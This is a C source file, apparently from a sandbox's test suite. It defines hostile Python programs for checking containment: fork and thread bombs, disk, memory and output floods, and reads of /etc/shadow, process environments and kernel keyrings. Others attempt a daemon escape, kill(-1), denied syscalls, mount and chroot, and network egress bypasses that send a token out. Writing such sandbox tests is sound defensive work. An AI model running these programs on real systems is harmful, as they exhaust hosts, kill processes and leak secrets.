/* The hostile-program table (see programs.h). Where the tests, the soak and
 * attack once each kept a copy of a program, the one here is the copy they
 * share; where they run different programs against one threat (attack's
 * fork bomb only forks from the first process, so that its count of tasks
 * on the host means one thing), both are entries, each named for what it
 * does. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "programs.h"

/* The devices program, with and without its pty part: the soak runs it
 * many times at once, where 100 ptys a run would measure the host's pty
 * pool rather than the sandbox. */
#define DEVICES_LIST "import os\nprint(sorted(os.listdir('/dev')))\n"
#define DEVICES_PTYS                                                                        \
	"try:\n"                                                                            \
	"    m, s = os.openpty()\n"                                                      \
	"    os.write(m, b'typed\\n')\n"                                                 \
	"    print('pty', os.read(s, 6))\n"                                              \
	"except OSError as e:\n"                                                         \
	"    print('no pty', e)\n"                                                       \
	"ptys = []\n"                                                                    \
	"try:\n"                                                                         \
	"    for i in range(100):\n"                                                     \
	"        ptys.append(os.openpty())\n"                                            \
	"except OSError as e:\n"                                                         \
	"    print('ptys stopped at', len(ptys))\n"
#define DEVICES_OPEN                                                                        \
	"for d in ['/dev/kvm', '/dev/vda', '/dev/mem', '/dev/tty', '/dev/console']:\n"       \
	"    print(d, os.path.exists(d))\n"                                              \
	"    try:\n"                                                                     \
	"        os.close(os.open(d, os.O_RDWR | os.O_NOCTTY))\n"                        \
	"        print(d, 'OPENED')\n"                                                   \
	"    except OSError as e:\n"                                                     \
	"        pass\n"
#define DEVICES_NULL                                                                        \
	"with open('/dev/null', 'w') as n:\n"                                               \
	"    n.write('discarded')\n"
#define DEVICES_ZERO "print('zero', open('/dev/zero', 'rb').read(2))\n"

const char *const hostile_marker_dirs[] = {"/tmp", "/var/tmp", "/dev/shm", "/etc",
					   "/run/lock", "/root", "/", NULL};

const struct hostile_program hostile_programs[HOSTILE_COUNT] = {
	/* ---- the seed article's six ---- */
	[HOSTILE_CPU_LOOP] = {
		"cpu-loop",
		/* A deadline, not `while True`: bounded even where no limit
		 * held it, yet far past any CPU or wall limit of a run (the
		 * soak's emulated tiers allow 30 s of wall clock, and a loaded
		 * host gives the loop less CPU time than wall time). */
		"import time\nend = time.time() + 600\nwhile time.time() < end:\n    pass\n",
		0, NULL, "the CPU or wall-clock limit ends it (timeout)"},
	[HOSTILE_MEMORY_512MB] = {
		"memory-512mb",
		"b = bytearray(512 * 1024 * 1024)\n"
		"for i in range(0, len(b), 4096):\n    b[i] = 1\n"
		"print('allocated', len(b))\n",
		0, NULL, "the memory limit ends it (memory), 'allocated' never printed"},
	[HOSTILE_FORK_BOMB] = {
		"fork-bomb",
		/* Every child forks on too; each process forks at most 100
		 * times. */
		"import os, time\n"
		"MAIN = os.getpid()\n"
		"made = 0\n"
		"for i in range(100):\n"
		"    try:\n"
		"        pid = os.fork()\n"
		"    except OSError:\n"
		"        break\n"
		"    if pid == 0:\n"
		"        continue\n"
		"    made += 1\n"
		"if os.getpid() != MAIN:\n"
		"    time.sleep(1)\n"
		"    os._exit(0)\n"
		"print('made', made, flush=True)\n",
		0, NULL, "the first process 'made' fewer children than the pids limit"},
	[HOSTILE_FORK_FLAT] = {
		"fork-bomb-flat",
		/* Only the first process forks: the tasks the host counts are
		 * its children, each alive a second. */
		"import os, time\n"
		"for i in range(200):\n"
		"    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
		"    if pid == 0:\n        time.sleep(1)\n        os._exit(0)\n",
		0, NULL, "never more tasks on the host than the pids limit; it finishes (ok)"},
	[HOSTILE_DISK_FILL] = {
		"disk-fill",
		/* Files of 4 MiB: the disk limit, not the file-size one, stops
		 * it under any file-size limit of 4 MiB or more. */
		"import errno\n"
		"total = 0\n"
		"try:\n"
		"    for n in range(1024):\n"
		"        with open('fill%d' % n, 'wb') as fh:\n"
		"            for i in range(4):\n"
		"                fh.write(b'x' * 1048576)\n"
		"                total += 1\n"
		"except OSError as e:\n"
		"    print('stopped', total, errno.errorcode[e.errno])\n",
		0, NULL, "'stopped N ENOSPC' with N MiB within the disk limit"},
	[HOSTILE_DISK_FILL_EVERYWHERE] = {
		"disk-fill-everywhere",
		"import os\n"
		"for d in ['.', '/tmp', '/var/tmp', '/dev/shm', '{CWD}']:\n"
		"    try:\n"
		"        with open(os.path.join(d, 'aj-attack-{TOKEN}'), 'wb') as f:\n"
		"            for i in range(2048):\n                f.write(b'x' * 1048576)\n"
		"    except OSError:\n        pass\n",
		HOSTILE_NEEDS_MARKERS, "aj-attack-",
		"no marker on the host, host disk not taken, it finishes (ok)"},
	[HOSTILE_READ_SECRETS] = {
		"read-secrets",
		"import os\n"
		"print(dict(os.environ))\n"
		"for p in ['{SECRET}', '/proc/1/environ', '/etc/shadow', '/root/.bash_history']:\n"
		"    try:\n"
		"        print(p, open(p).read())\n"
		"    except OSError as e:\n"
		"        print(p, type(e).__name__)\n",
		HOSTILE_NEEDS_SECRET, NULL,
		"it tried {SECRET}; the token and the caller's variable never came out"},
	[HOSTILE_NETWORK] = {
		"loopback-network",
		"import socket\n"
		"for host in ['127.0.0.1', 'localhost']:\n"
		"    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
		"    s.settimeout(2)\n"
		"    try:\n"
		"        s.connect((host, {PORT}))\n"
		"        s.sendall(b'{TOKEN}')\n"
		"        print('CONNECTED', host)\n"
		"    except OSError as e:\n"
		"        print('blocked', host, e)\n"
		"try:\n"
		"    socket.getaddrinfo('deb.debian.org', 80)\n"
		"    print('RESOLVED')\n"
		"except OSError as e:\n"
		"    print('no dns', e)\n",
		HOSTILE_NEEDS_LISTENER, NULL,
		"the listener accepted nothing; 'blocked 127.0.0.1', no CONNECTED, no RESOLVED"},
	[HOSTILE_NETWORK_HOST] = {
		"network-host",
		"import socket\n"
		"for host, port in [('127.0.0.1', {PORT}), ('localhost', {PORT}), ('{HOSTIP}', {HOSTPORT})]:\n"
		"    try:\n"
		"        s = socket.create_connection((host, port), timeout=2)\n"
		"        s.sendall(b'{TOKEN}')\n"
		"    except OSError as e:\n        print(host, e)\n",
		HOSTILE_NEEDS_LISTENER | HOSTILE_NEEDS_HOST_LISTENER, NULL,
		"neither listener accepted; the token never came out"},
	/* ---- the rest ---- */
	[HOSTILE_SLEEP_FOREVER] = {
		"sleep-forever",
		"import time\nprint('going to sleep')\ntime.sleep(3600)\n",
		0, NULL, "the wall-clock limit ends it (timeout), what it printed kept"},
	[HOSTILE_OUTPUT_FLOOD] = {
		"output-flood",
		/* 1 GB if nothing stopped it. */
		"import sys\n"
		"chunk = 'x' * 65536\n"
		"for i in range(16384):\n"
		"    sys.stdout.write(chunk)\n",
		0, NULL, "the output limit ends it (output_limit), stdout cut at the limit"},
	[HOSTILE_THREAD_BOMB] = {
		"thread-bomb",
		/* Every thread waits until the count is printed: on an emulated
		 * CPU a thread that slept a fixed time would end before the last
		 * began, and 'made' would count more than were alive at once.
		 * They end before the interpreter does. */
		"import threading\n"
		"stop = threading.Event()\n"
		"threads = []\n"
		"try:\n"
		"    for i in range(1000):\n"
		"        t = threading.Thread(target=stop.wait, args=(30,), daemon=True)\n"
		"        t.start()\n"
		"        threads.append(t)\n"
		"except RuntimeError as e:\n"
		"    pass\n"
		"print('made', len(threads))\n"
		"stop.set()\n"
		"for t in threads:\n"
		"    t.join()\n",
		0, NULL, "it 'made' fewer threads than the pids limit and finishes (ok)"},
	[HOSTILE_BIG_FILE] = {
		"big-file",
		"import errno\n"
		"n = 0\n"
		"try:\n"
		"    with open('/tmp/big', 'wb') as fh:\n"
		"        for i in range(4096):\n"
		"            fh.write(b'x' * 1048576)\n"
		"            n += 1\n"
		"except OSError as e:\n"
		"    print('stopped', n, errno.errorcode[e.errno])\n",
		0, NULL, "'stopped N EFBIG' with N MiB within the file-size limit"},
	[HOSTILE_BIG_FILE_EVERYWHERE] = {
		"big-file-everywhere",
		"for d in ['/tmp', '{CWD}']:\n"
		"    try:\n"
		"        with open(d + '/aj-attack-{TOKEN}', 'wb') as f:\n"
		"            for i in range(4096):\n                f.write(b'x' * 1048576)\n"
		"    except OSError:\n        pass\n",
		HOSTILE_NEEDS_MARKERS, "aj-attack-",
		"no marker on the host, host disk not taken, it finishes (ok)"},
	[HOSTILE_MANY_FILES] = {
		"many-files",
		"import errno\n"
		"n = 0\n"
		"try:\n"
		"    for i in range(200000):\n"
		"        open('/tmp/f%d' % i, 'w').close()\n"
		"        n += 1\n"
		"except OSError as e:\n"
		"    print('stopped', n, errno.errorcode[e.errno])\n",
		0, NULL, "'stopped N ENOSPC' within the inode cap"},
	[HOSTILE_FILL_TMP_AND_SHM] = {
		"fill-tmp-and-shm",
		"import errno\n"
		"total = 0\n"
		"for d in ['/tmp', '/dev/shm', '/var/tmp']:\n"
		"    try:\n"
		"        with open(d + '/fill-{TOKEN}', 'wb') as fh:\n"
		"            for i in range(1024):\n"
		"                fh.write(b'x' * 1048576)\n"
		"                total += 1\n"
		"    except OSError as e:\n"
		"        print(d, errno.errorcode[e.errno])\n"
		"print('total', total)\n",
		HOSTILE_NEEDS_MARKERS, "fill-",
		"/tmp and /dev/shm stop at ENOSPC, their total within one disk limit"},
	[HOSTILE_DAEMON] = {
		"setsid-daemon",
		/* setsid + double fork: the classic escape from a process-group
		 * kill. The daemon would write a marker after the run ended. */
		"import os, time\n"
		"if os.fork() == 0:\n"
		"    os.setsid()\n"
		"    if os.fork() == 0:\n"
		"        time.sleep(1.5)\n"
		"        for d in ['/tmp', '/var/tmp', '/dev/shm', '.', '{CWD}']:\n"
		"            try:\n"
		"                open(d + '/daemon-{TOKEN}', 'w').write('alive')\n"
		"            except OSError:\n"
		"                pass\n"
		"        os._exit(0)\n"
		"    os._exit(0)\n"
		"time.sleep(0.2)\n"
		"print('parent done')\n",
		HOSTILE_NEEDS_MARKERS | HOSTILE_NEEDS_WAIT, "daemon-",
		"'parent done' (ok); 2 s later no process of it and no marker on the host"},
	[HOSTILE_KILL_ALL] = {
		"kill-all",
		"import os, signal\n"
		"try:\n"
		"    os.kill(-1, signal.SIGKILL)\n"
		"except OSError as e:\n"
		"    print('kill -1:', e)\n"
		"print('still here')\n",
		HOSTILE_NEEDS_SENTINEL, NULL, "the sentinel on the run's own uid is alive"},
	[HOSTILE_KILL_SENTINEL] = {
		"kill-sentinel",
		"import os, signal\n"
		"for pid in [{SENTINEL}]:\n"
		"    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError as e:\n        print(e)\n",
		HOSTILE_NEEDS_SENTINEL, NULL, "the sentinel it aimed at by pid is alive"},
	[HOSTILE_LIST_PROC] = {
		"list-proc",
		"import os\n"
		"pids = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())\n"
		"print(len(pids), pids)\n"
		"for p in pids:\n"
		"    try:\n"
		"        print(p, open('/proc/%d/cmdline' % p, 'rb').read())\n"
		"    except OSError as e:\n"
		"        print(p, e)\n",
		0, NULL, "it sees 1 or 2 processes, none of the host's command lines"},
	[HOSTILE_HOST_CMDLINE] = {
		"host-cmdline",
		"import os\n"
		"for p in os.listdir('/proc'):\n"
		"    if p.isdigit():\n"
		"        try:\n            c = open('/proc/%s/cmdline' % p, 'rb').read()\n"
		"            if b'aj-sentinel' in c:\n                print(p, c)\n"
		"        except OSError:\n            pass\n",
		HOSTILE_NEEDS_CMDLINE, NULL, "the host process's token never came out"},
	[HOSTILE_WRITE_EVERYWHERE] = {
		"write-everywhere",
		"import os\n"
		"for d in ['/tmp', '/etc', '.', '/var/tmp', '/dev/shm', '/run/lock', '/root', '{CWD}', '/']:\n"
		"    try:\n"
		"        open(os.path.join(d, 'w-{TOKEN}'), 'w').write('x')\n"
		"        print('wrote', d)\n"
		"    except OSError as e:\n"
		"        print('refused', d, type(e).__name__)\n",
		HOSTILE_NEEDS_MARKERS, "w-",
		"'wrote /tmp', 'wrote .', 'refused /etc'; no marker on the host"},
	/* ---- what a review found reachable without the filter and a /dev of
	 * its own ---- */
	[HOSTILE_HOST_UNIX_SOCKET] = {
		"host-unix-socket",
		/* A host service on a world-connectable socket file, as the D-Bus
		 * system bus, /dev/log or a database are: a read-only mount does
		 * not stop connect(). */
		"import socket\n"
		"for fam, name in [(socket.AF_UNIX, 'unix'), (40, 'vsock'), (17, 'packet')]:\n"
		"    try:\n"
		"        s = socket.socket(fam, socket.SOCK_STREAM if fam != 17 else socket.SOCK_RAW)\n"
		"        print('CREATED', name)\n"
		"        if fam == socket.AF_UNIX:\n"
		"            s.connect('{SOCK}')\n"
		"            print('CONNECTED')\n"
		"    except OSError as e:\n"
		"        print('refused', name, e.errno)\n"
		"a, b = socket.socketpair()\n"
		"a.send(b'pair ok')\n"
		"print(b.recv(10).decode())\n",
		HOSTILE_NEEDS_UNIX, NULL,
		"the socket accepted nothing; no CREATED, no CONNECTED; 'pair ok'"},
	[HOSTILE_KEYRINGS] = {
		"keyrings",
		/* Read the caller's keys; plant one for the next run. */
		"import ctypes, os\n"
		"libc = ctypes.CDLL(None, use_errno=True)\n"
		"try:\n"
		"    print(open('/proc/keys').read())\n"
		"except FileNotFoundError:\n"
		"    print('no /proc/keys')\n"
		"r = libc.syscall(248, b'user', b'planted', b'x', 1, ctypes.c_long(-4))\n"
		"print('add_key', r, ctypes.get_errno())\n"
		"r = libc.syscall(250, 0, ctypes.c_long(-3), 0, 0, 0)\n"
		"print('keyctl', r, ctypes.get_errno())\n",
		HOSTILE_NEEDS_KEYRING, NULL,
		"no key of the caller's seen; add_key and keyctl EPERM; nothing planted survives"},
	[HOSTILE_KEYRING_READ] = {
		"keyring-read",
		"import ctypes, platform\nlibc = ctypes.CDLL(None, use_errno=True)\n"
		"KEYCTL = {'x86_64': 250, 'aarch64': 219}[platform.machine()]\n"
		/* gVisor has no /proc/keys: nothing to read there, which holds. */
		"try:\n    print(open('/proc/keys').read())\nexcept FileNotFoundError:\n    pass\n"
		"k = libc.syscall(KEYCTL, 10, ctypes.c_long(-3), b'user', b'agentjail-attack-secret', 0)\n"
		"buf = ctypes.create_string_buffer(256)\n"
		"if k > 0:\n    libc.syscall(KEYCTL, 11, k, buf, 256)\n    print(buf.value)\n",
		HOSTILE_NEEDS_KEYRING, NULL, "the key's token never came out"},
	[HOSTILE_DEVICES] = {
		"devices",
		DEVICES_LIST DEVICES_PTYS DEVICES_OPEN DEVICES_NULL DEVICES_ZERO,
		0, NULL,
		"only the jail's own /dev; a pty of its own, bounded; no host device opened"},
	[HOSTILE_DEVICES_BRIEF] = {
		"devices-brief",
		DEVICES_LIST DEVICES_OPEN DEVICES_ZERO,
		0, NULL, "no host device opened; /dev/zero reads zeros"},
	[HOSTILE_DENIED_SYSCALLS] = {
		"denied-syscalls",
		/* Each call an escape or a resource grab would start with, made
		 * with harmless arguments: the filter answers EPERM before the
		 * kernel looks at them. (x86-64 numbers.) */
		"import ctypes, os, errno\n"
		"libc = ctypes.CDLL(None, use_errno=True)\n"
		"calls = [('mount', 165, 0), ('umount2', 166, 0), ('pivot_root', 155, 0),\n"
		"  ('chroot', 161, 0), ('unshare_user', 272, 0x10000000), ('unshare_net', 272, 0x40000000),\n"
		"  ('setns', 308, 0), ('ptrace', 101, 16), ('process_vm_readv', 310, 1), ('bpf', 321, 0),\n"
		"  ('perf_event_open', 298, 0), ('keyctl', 250, 0), ('add_key', 248, 0),\n"
		"  ('request_key', 249, 0), ('userfaultfd', 323, 0), ('io_uring_setup', 425, 1),\n"
		"  ('kexec_load', 246, 0), ('init_module', 175, 0), ('finit_module', 313, 0),\n"
		"  ('delete_module', 176, 0), ('open_by_handle_at', 304, 0), ('reboot', 169, 0),\n"
		"  ('swapon', 167, 0), ('clock_settime', 227, 0), ('settimeofday', 164, 0),\n"
		"  ('acct', 163, 0), ('quotactl', 179, 0), ('personality', 135, 0x0400000),\n"
		"  ('shmget', 29, 0), ('msgget', 68, 0), ('semget', 64, 0), ('memfd_create', 319, 0),\n"
		"  ('syslog', 103, 3)]\n"
		"for name, nr, a0 in calls:\n"
		"    ctypes.set_errno(0)\n"
		"    r = libc.syscall(nr, ctypes.c_long(a0), 0, 0, 0, 0)\n"
		"    print(name, 'ALLOWED' if r >= 0 else errno.errorcode.get(ctypes.get_errno()))\n"
		"r = libc.syscall(56, ctypes.c_long(0x10000000 | 17), 0, 0, 0, 0)\n"
		"if r == 0:\n"
		"    os._exit(0)\n"
		"print('clone_newuser', 'ALLOWED' if r > 0 else errno.errorcode.get(ctypes.get_errno()))\n"
		"r = libc.syscall(435, 0, 0)\n"
		"print('clone3', errno.errorcode.get(ctypes.get_errno()))\n"
		"pid = os.fork()\n"
		"if pid == 0:\n"
		"    os._exit(7)\n"
		"print('fork still works', os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))\n",
		0, NULL, "every call EPERM, clone3 ENOSYS, 'fork still works 7'"},
	[HOSTILE_MOUNT_UNSHARE] = {
		"mount-and-unshare",
		"import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
		"libc.unshare(0x10000000 | 0x20000)\n"
		"libc.mount(b'none', '{MNT}'.encode(), b'tmpfs', 0, None)\n"
		"libc.mount(b'/', '{MNT}'.encode(), None, 4096, None)\n"
		"libc.chroot('{MNT}'.encode())\n",
		HOSTILE_NEEDS_MOUNTS, NULL, "the host's mount table unchanged; it finishes (ok)"},
	/* ---- egress by allow-list: run with rules ---- */
	[HOSTILE_EGRESS_BYPASS] = {
		"egress-bypass",
		/* The allowed server through the proxy first (so the proxy is
		 * there and working), then every way around it. */
		"import socket, urllib.request, urllib.error\n"
		"T = '{TOKEN}'\n"
		"print('ALLOWED', urllib.request.urlopen('http://127.0.0.1:{PORT}/allowed-' + T,"
		" timeout=10).read().decode().strip())\n"
		"def tcp(family, addr):\n"
		"    s = socket.socket(family, socket.SOCK_STREAM)\n"
		"    s.settimeout(2)\n"
		"    try:\n"
		"        s.connect(addr)\n"
		"        s.sendall(b'GET /direct-' + T.encode() + b' HTTP/1.0\\r\\n\\r\\n')\n"
		"        print('LEAK tcp', addr[0])\n"
		"    except OSError as e:\n"
		"        print('blocked tcp', addr[0], e.errno)\n"
		"tcp(socket.AF_INET, ('127.0.0.1', {PORT}))\n"
		"tcp(socket.AF_INET6, ('::1', {PORT}))\n"
		"tcp(socket.AF_INET6, ('::ffff:127.0.0.1', {PORT}))\n"
		"for addr in [('127.0.0.1', {HOSTPORT}), ('8.8.8.8', 53), ('10.0.0.1', 53)]:\n"
		"    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
		"    try:\n"
		"        u.sendto(b'udp-' + T.encode(), addr)\n"
		"        print('udp sent', addr[0])\n"
		"    except OSError as e:\n"
		"        print('blocked udp', addr[0], e.errno)\n"
		"try:\n"
		"    socket.getaddrinfo('example.com', 80)\n"
		"    print('LEAK dns')\n"
		"except OSError as e:\n"
		"    print('no dns')\n"
		"try:\n"
		"    urllib.request.urlopen('http://' + T + '.example.com/', timeout=10)\n"
		"    print('LEAK proxy name')\n"
		"except urllib.error.HTTPError as e:\n"
		"    print('refused name', e.code)\n"
		"for proto in [socket.IPPROTO_ICMP, socket.IPPROTO_RAW]:\n"
		"    try:\n"
		"        socket.socket(socket.AF_INET, socket.SOCK_RAW, proto)\n"
		"        print('LEAK raw')\n"
		"    except OSError as e:\n"
		"        print('blocked raw', e.errno)\n"
		"try:\n"
		"    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n"
		"    print('LEAK packet')\n"
		"except OSError as e:\n"
		"    print('blocked packet', e.errno)\n"
		"s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
		"s.sendall(b'\\x05\\x01\\x00')\n"
		"s.recv(2)\n"
		"name = (T + '.example.com').encode()\n"
		"s.sendall(b'\\x05\\x01\\x00\\x03' + bytes([len(name)]) + name + (80).to_bytes(2, 'big'))\n"
		"print('socks reply', s.recv(10)[1])\n",
		HOSTILE_NEEDS_EGRESS, NULL,
		"'ALLOWED egress-ok', every bypass blocked or refused (no LEAK), the server saw only "
		"the proxied request, the UDP socket nothing"},
};

static const char *const need_names[] = {"secret", "listener", "host-listener", "unix-socket",
					 "sentinel", "cmdline", "keyring", "mounts",
					 "markers", "wait", "egress"};

const char *hostile_need_name(unsigned bit_index)
{
	return bit_index < sizeof need_names / sizeof need_names[0] ? need_names[bit_index] : NULL;
}

void hostile_put_literal(FILE *m, const char *s, enum hostile_lang lang)
{
	for (const char *c = s ? s : ""; *c; c++) {
		if (lang == HOSTILE_SHELL) {
			/* Inside '...' nothing is special but the quote: end the
			 * literal, an escaped quote, start it again. */
			if (*c == '\'')
				fputs("'\\''", m);
			else
				fputc(*c, m);
			continue;
		}
		/* Python's and JavaScript's '...' alike. */
		if (*c == '\\' || *c == '\'')
			fputc('\\', m);
		if (*c == '\n')
			fputs("\\n", m);
		else
			fputc(*c, m);
	}
}

char *hostile_fill(const char *code, const struct hostile_values *v)
{
	return hostile_fill_lang(code, v, HOSTILE_PYTHON);
}

char *hostile_fill_lang(const char *code, const struct hostile_values *v, enum hostile_lang lang)
{
	char port[16], host_port[16], sentinel[16];
	snprintf(port, sizeof port, "%d", v->port);
	snprintf(host_port, sizeof host_port, "%d", v->host_port);
	snprintf(sentinel, sizeof sentinel, "%d", (int)v->sentinel);
	const char *keys[] = {"{TOKEN}", "{SECRET}", "{SOCK}", "{CWD}", "{MNT}", "{HOSTIP}",
			      "{PORT}", "{HOSTPORT}", "{SENTINEL}"};
	const char *vals[] = {v->token, v->secret, v->sock, v->cwd, v->mnt, v->host_ip,
			      port, host_port, sentinel};
	const size_t nk = sizeof keys / sizeof keys[0];
	char *out = NULL;
	size_t len = 0;
	FILE *m = open_memstream(&out, &len);
	if (!m)
		return NULL;
	while (*code) {
		size_t k = 0;
		for (; k < nk; k++)
			if (!strncmp(code, keys[k], strlen(keys[k])))
				break;
		if (k == nk) {
			fputc(*code++, m);
			continue;
		}
		hostile_put_literal(m, vals[k], lang);
		code += strlen(keys[k]);
	}
	if (fclose(m)) {
		free(out);
		return NULL;
	}
	return out;
}
